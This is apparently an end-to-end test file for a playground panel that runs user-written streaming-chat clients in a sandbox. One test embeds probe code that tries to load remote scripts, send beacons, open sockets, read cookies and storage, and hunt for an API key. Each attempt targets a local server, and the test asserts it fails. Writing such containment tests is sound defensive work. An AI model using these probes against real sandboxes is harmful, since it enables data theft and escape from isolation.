/** The panel "Clients": other clients over the same bytes, and the reader's own in its sandbox. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { AxeBuilder } from '@axe-core/playwright';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { clientRow, openPanel } from '../support/panel.ts';
import { complaintsOf, SCHEMES } from '../support/site.ts';
import { wake } from '../support/playground.ts';

const key = 'sk-e2e-5d0c19a7f3e84b62';

async function open(page: Page) {
	await page.goto('/playground/');
	return openPanel(page, 'Clients');
}

/** Pastes code into the editor and runs it. */
async function runYours(panel: Locator, code: string) {
	const editor = panel.getByRole('textbox', { name: 'Your client, in JavaScript' });
	if (!(await editor.isVisible())) await panel.getByText('Edit yours').click();
	await editor.fill(code);
	await panel.getByRole('button', { name: 'Run yours' }).click();
}

const yields = (body: string) => `export async function* streamChat({ fetch }) {\n${body}\n}\n`;

/** Opens the row of the reader's client and returns its text. */
async function textOfYours(panel: Locator) {
	const row = clientRow(panel, 'Yours');
	const button = row.getByRole('button', { name: 'Text of Yours' });
	await expect(button).toBeVisible({ timeout: 30_000 });
	if ((await button.getAttribute('aria-expanded')) === 'false') await button.click();
	return panel.getByRole('region', { name: 'Text of Yours' });
}

test('says what the obvious loop lost while the others agree, and shows both texts', async ({
	page,
}) => {
	await page.goto('/playground/');
	const breaking = await openPanel(page, 'Break it');
	await breaking.getByLabel('Fault to break it with').selectOption('random-reads');
	await breaking.getByRole('button', { name: 'Run with this fault' }).click();
	await expect(page.getByRole('status').first()).toContainText('Complete.', { timeout: 40_000 });

	const panel = await openPanel(page, 'Clients');
	await panel.getByRole('button', { name: 'Run all clients' }).click();
	const obvious = clientRow(panel, 'The obvious loop');
	await expect(obvious).toContainText(/Lost .*frame \d+.*, split over reads \d+ (and|to) \d+/);
	for (const name of ['This page’s example', 'OpenAI SDK', 'eventsource-parser', 'Yours']) {
		await expect(clientRow(panel, name), name).toContainText('Returned.', { timeout: 30_000 });
		await expect(clientRow(panel, name), name).toContainText('The same text.');
	}
	await obvious.getByRole('button', { name: 'Text of The obvious loop' }).click();
	await expect(
		panel.getByRole('region', { name: 'Text in the frames' }).locator('del').first()
	).toBeVisible();
	await expect(
		panel.getByRole('region', { name: 'Text of The obvious loop' }).locator('mark')
	).toHaveCount(1);
});

test('runs over the recorded run before the reader has made one, without a complaint', async ({
	page,
}) => {
	const complaints = await complaintsOf(page);
	const panel = await open(page);
	await panel.getByRole('button', { name: 'Run all clients' }).click();
	await expect(clientRow(panel, 'Yours')).toContainText('The same text.', { timeout: 30_000 });
	await expect(clientRow(panel, 'The obvious loop')).toContainText('The same text.');
	await panel.getByText('Edit yours').click();
	await expect(panel.getByRole('textbox', { name: 'Your client, in JavaScript' })).toBeVisible();
	await page.keyboard.press('Escape');
	expect(complaints).toEqual([]);
});

test('works where a body is not async iterable, as in Safari: the playground, and each client', async ({
	page,
}) => {
	const complaints = await complaintsOf(page);
	await page.addInitScript(() => {
		const { prototype } = ReadableStream as { prototype: object };
		for (const name of [Symbol.asyncIterator, 'values']) Reflect.deleteProperty(prototype, name);
	});
	await page.goto('/playground/');
	expect(await page.evaluate(() => Symbol.asyncIterator in new Response('a').body!)).toBe(false);
	await wake(page);
	await page.getByRole('button', { name: 'Run', exact: true }).click();
	await expect(page.getByRole('status').first()).toContainText('Complete.', { timeout: 40_000 });
	const panel = await openPanel(page, 'Clients');
	await panel.getByRole('button', { name: 'Run all clients' }).click();
	for (const name of ['This page’s example', 'OpenAI SDK', 'eventsource-parser', 'Yours']) {
		await expect(clientRow(panel, name), name).toContainText('The same text.', { timeout: 30_000 });
	}
	expect(complaints).toEqual([]);
});

for (const colorScheme of SCHEMES) {
	test(`has no fault that axe finds, in ${colorScheme}`, async ({ page }) => {
		await page.emulateMedia({ colorScheme });
		const panel = await open(page);
		await panel.getByRole('button', { name: 'Run all clients' }).click();
		await clientRow(panel, 'Yours')
			.getByRole('button', { name: 'Text of Yours' })
			.click({ timeout: 30_000 });
		await runYours(panel, yields("console.warn('look'); yield 'a'; null.x;"));
		await expect(clientRow(panel, 'Yours')).toContainText('Threw');
		const { violations } = await new AxeBuilder({ page }).include('.pg').setLegacyMode().analyze();
		expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
	});
}

test.describe('the reader’s own', () => {
	test('starts as the printed example, and shows its result', async ({ page }) => {
		const panel = await open(page);
		await panel.getByText('Edit yours').click();
		const editor = panel.getByRole('textbox', { name: 'Your client, in JavaScript' });
		await expect(editor).toContainText('Streams a chat answer with');

		const shout = `const response = await fetch('/chat/completions');
console.log(response.status, response.headers.get('content-type'));
const whole = await response.text();
for (const [, word] of whole.matchAll(/"content":"(.*?)"/g)) yield word.toUpperCase();`;
		await runYours(panel, yields(shout));
		await expect(await textOfYours(panel)).toContainText('ONCE UPON A TIME');
		await expect(clientRow(panel, 'Yours')).toContainText(
			/Another text from character 2 on, in frame \d+\./
		);
		const output = panel.getByRole('list', { name: 'Console of yours' });
		await expect(output.getByRole('listitem')).toHaveText(/log.*200 text\/event-stream.*Line 3/);

		// It outlives the panel, and Reset brings the example back.
		await page.getByRole('button', { name: 'Clients', exact: true }).click();
		await page.getByRole('button', { name: 'Clients', exact: true }).click();
		await expect(editor).toContainText('word.toUpperCase()');
		await panel.getByRole('button', { name: 'Reset' }).click();
		await expect(editor).toContainText('Streams a chat answer with');
		await panel.getByRole('button', { name: 'Run yours' }).click();
		await expect(clientRow(panel, 'Yours')).toContainText('The same text.');
	});

	test('names the line of an error of grammar or of running, and says what to export', async ({
		page,
	}) => {
		const panel = await open(page);
		const row = clientRow(panel, 'Yours');
		await runYours(panel, yields("  yield 'a';\n\n  let x = ;"));
		await expect(row).toContainText("Threw: SyntaxError: Unexpected token ';' Line 4");
		await row.getByRole('button', { name: 'Line 4' }).click();
		await expect(page.locator('.cm-activeLine')).toHaveText('  let x = ;');

		await runYours(panel, yields("  yield 'a';\n  null.x;"));
		await expect(row).toContainText('Threw: TypeError: Cannot read properties of null');
		await expect(row).toContainText('Line 3');
		await expect(await textOfYours(panel)).toContainText('a');

		const isNone = 'streamChat must be an async generator (async function*); it returned';
		const throws = "export async function streamChat() {\n  throw new TypeError('boom');\n}";
		await runYours(panel, throws);
		await expect(row).toContainText(`${isNone} a Promise, which failed with TypeError: boom`);
		await expect(row).toContainText('Line 2');
		await runYours(panel, "export async function streamChat() {\n  return 'all';\n}");
		await expect(row).toContainText(`${isNone} a Promise.`);
		await runYours(panel, 'export function streamChat() {}');
		await expect(row).toContainText(`${isNone} a value of type undefined.`);

		await runYours(panel, `const x = 1;\n`);
		await expect(row).toContainText('The code exports no function called streamChat.');
	});

	test('is stopped if it does not end by itself', async ({ page }) => {
		const panel = await open(page);
		const row = clientRow(panel, 'Yours');
		for (const loop of ['while (true) {}', 'await new Promise(() => {});']) {
			await runYours(panel, yields(`  yield 'before';\n  ${loop}`));
			await expect(panel.getByRole('status')).toContainText('Running Yours', { timeout: 5000 });
			await expect(row, loop).toContainText('Ended by us. It had not ended after 5 s', {
				timeout: 40_000,
			});
			await expect(await textOfYours(panel), loop).toContainText('before');
		}
		await runYours(panel, yields('  for (let i = 0; i < 1e5; i++) console.log(i);\n  yield 1;'));
		await expect(row).toContainText('Returned.');
		await expect(panel.getByRole('list', { name: 'Console of yours' })).toContainText(
			'Line 200 of the console is the last that is shown.'
		);
	});

	test('reaches no server, no page, no storage, no other code, and finds no key', async ({
		page,
		context,
	}) => {
		const asked: string[] = [];
		const server = createServer((request, response) => {
			asked.push(`${request.method} ${request.url}`);
			response.setHeader('access-control-allow-origin', '*');
			response.setHeader('content-type', 'text/javascript');
			response.end('globalThis.came = true');
		}).listen(0, '127.0.0.1');
		await new Promise((resolve) => server.once('listening', resolve));
		const address = `127.0.0.1:${(server.address() as AddressInfo).port}`;

		const panel = await open(page);
		await page.evaluate(() => {
			localStorage.setItem('theirs', 'a secret of the site');
			document.cookie = 'theirs=1';
		});
		await page.getByRole('radio', { name: 'Your endpoint' }).check();
		await page.getByLabel('API key').fill(key);

		const attack = `
const http = 'http://${address}/'; // edited-code-marker
const genuine = Object.getPrototypeOf(globalThis);
const tries = {
  fetchGiven: async (given) => (await given(http)).headers.get('content-type').split(';')[0],
  fetchGlobal: async () => (await globalThis.fetch(http)).headers.get('content-type').split(';')[0],
  fetchPrototype: () => genuine.fetch.call(globalThis, http),
  fetchBeyond: () => Object.getPrototypeOf(genuine).fetch.call(globalThis, http),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', http, false); x.send(); return x.status; },
  socket: () => new WebSocket('ws://${address}/'),
  events: () => new EventSource(http),
  transport: () => new WebTransport('https://${address}/'),
  scripts: () => importScripts(http + 'x.js'),
  module: () => import(http + 'm.js'),
  data: () => import('data:text/javascript,export default 1'),
  eval: () => (0, eval)('1'),
  worker: () => new Worker(http),
  beacon: () => navigator.sendBeacon(http, 'x'),
  document: () => document.title,
  parent: () => parent.document,
  local: () => localStorage.length,
  databases: () => indexedDB.open('x'),
  caches: () => caches.keys(),
  channel: () => new BroadcastChannel('x'),
  cookies: () => cookieStore.getAll(),
  objectURL: () => URL.createObjectURL(new Blob(['1'])),
  frame: () => postMessage('parse'),
};
export async function* streamChat(options) {
  for (const [name, go] of Object.entries(tries)) {
    try {
      const found = await go(options.fetch);
      yield name + '=' + String(found) + ';';
    } catch (error) {
      console.log(name, error.name);
    }
  }
  const seen = new Set(), found = [];
  const look = (value, path) => {
    if (typeof value === 'string') { if (value.includes('${key.slice(0, 10)}')) found.push(path); return; }
    if (value === null || !['object', 'function'].includes(typeof value) || seen.has(value)) return;
    seen.add(value);
    for (const name of Reflect.ownKeys(value)) {
      let inner; try { inner = value[name]; } catch { continue; }
      look(inner, path + '.' + String(name));
    }
    look(Object.getPrototypeOf(value), path + '.__proto__');
  };
  look(options, 'options');
  look(globalThis, 'globalThis');
  yield 'looked at ' + (seen.size > 100) + ';found ' + found.length + ';origin ' + self.origin;
}`;
		await runYours(panel, attack);
		const text = await textOfYours(panel);
		await expect(text).toContainText('looked at true;found 0;origin undefined');
		// The two ways to a `fetch` gave the recorded answer. Nothing else gave anything.
		await expect(text).toContainText(
			'fetchGiven=text/event-stream;fetchGlobal=text/event-stream;looked at true;found 0;'
		);
		// A request that was on its way would have come by now: this one does.
		expect((await page.request.get(`http://${address}/control`)).ok()).toBe(true);
		expect(asked).toEqual(['GET /control']);
		server.close();

		expect(page.url()).not.toContain('marker');
		const kept = await page.evaluate(async () => [
			JSON.stringify(localStorage),
			JSON.stringify(sessionStorage),
			JSON.stringify(history.state),
			JSON.stringify(await indexedDB.databases()),
			JSON.stringify(await caches.keys()),
			document.cookie,
		]);
		expect(kept.join('\n')).not.toMatch(/edited-code-marker|streamChat/);
		expect((await context.cookies()).map(({ name }) => name)).toEqual(['theirs']);
		await expect(page.locator('iframe'), 'the frame goes with its run').toHaveCount(0);
	});
});

test('the sandbox page runs nothing outside a sandbox', async ({ page }) => {
	await page.goto('/playground/');
	const answer = await page.evaluate(async () => {
		const frame = document.createElement('iframe');
		frame.src = '/sandbox.html';
		document.body.append(frame);
		await new Promise((resolve) => frame.addEventListener('load', resolve));
		const { port1, port2 } = new MessageChannel();
		const said = new Promise((resolve) => {
			port1.addEventListener('message', ({ data }) => resolve(data));
			port1.start();
		});
		const code = 'export const streamChat = () => [self.origin]';
		frame.contentWindow!.postMessage({ code, request: {}, reads: [] }, '*', [port2]);
		// A Worker that had been started would answer before this one, which does the same and more.
		const later = new Promise((resolve) => setTimeout(() => resolve('silence'), 1500));
		return Promise.race([said, later]);
	});
	expect(answer).toBe('silence');
});

test('costs nothing until it is opened', async ({ page }) => {
	const fetched: string[] = [];
	page.on('request', (request) => fetched.push(new URL(request.url()).pathname));
	await page.goto('/playground/', { waitUntil: 'networkidle' });
	await wake(page);
	const isOfPanels = (path: string) => /clients|panel|yours|sandbox|openai|eventsource/i.test(path);
	expect(fetched.filter(isOfPanels)).toEqual([]);
	const panel = await openPanel(page, 'Clients');
	await expect(panel.getByRole('button', { name: 'Run all clients' })).toBeVisible();
	expect(fetched.filter(isOfPanels).length).toBeGreaterThan(0);
	expect(fetched.filter((path) => /yours\.|openai|eventsource/i.test(path))).toEqual([]);
});
